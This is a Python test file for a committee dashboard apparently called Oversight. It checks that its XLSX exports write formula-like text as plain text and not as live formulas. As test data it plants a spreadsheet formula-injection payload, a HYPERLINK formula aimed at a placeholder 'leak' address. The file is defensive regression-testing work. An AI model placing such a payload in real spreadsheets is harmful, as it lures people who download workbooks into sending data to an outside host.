"""Every XLSX Oversight writes keeps text as text: no live formula, link or number from data.

A recommendation text beginning with `=HYPERLINK(...)` once became a live link in the
tracker workbook that observers download.
"""

from __future__ import annotations

import io
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import Engine

from dashboard import committee
from dashboard.accounts.roles import Principal
from dashboard.data.exporter import export_dir
from dashboard.data.importer import import_files
from dashboard.data.public import public_export_bytes
from tests.conftest import ROOT

SEC = Principal("sec", "secretariat")
OBS = Principal("obs", "observer")
PLANTED = '=HYPERLINK("http://203.0.113.9/leak","Open the annex")'


def _formulas(data: bytes) -> list[str]:
    """Formula cells in a workbook (openpyxl reports them as data_type 'f'), and <f> tags."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [
        f"{ws.title}!{c.coordinate}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        tags = [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]
    return cells + tags


@pytest.fixture
def loaded(engine: Engine) -> Engine:
    import_files(
        engine,
        [ROOT / "seed" / "documented" / "cases.csv", ROOT / "seed" / "documented" / "events.csv"],
    )
    return engine


def test_tracker_workbook_writes_a_formula_like_text_as_text(loaded: Engine) -> None:
    session = committee.create_session(
        engine=loaded,
        principal=SEC,
        title="=1+1 session",
        session_date=date(2013, 2, 15),
        period="2012-H2",
        members_present="A. Member",
    )
    assert session.id is not None
    committee.create_recommendation(
        engine=loaded,
        principal=SEC,
        session_id=session.id,
        kind="systemic",
        addressee="SPU",
        text=PLANTED,
        due_date=date(2013, 9, 1),
        target_indicator="spu_involvement_rate",
        target_region="KZ-39",
    )
    # the secretariat reads the unpublished text (observers get only published copies)
    data = committee.export_tracker_xlsx(engine=loaded, principal=SEC, overdue_only=False)
    assert _formulas(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    texts = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert PLANTED in texts


def test_full_and_public_exports_have_no_formulas(loaded: Engine, tmp_path: Path) -> None:
    (path,) = export_dir(loaded, tmp_path, fmt="xlsx")
    assert _formulas(path.read_bytes()) == []
    assert _formulas(public_export_bytes(loaded, OBS, "xlsx", as_of=date(2016, 6, 30))) == []
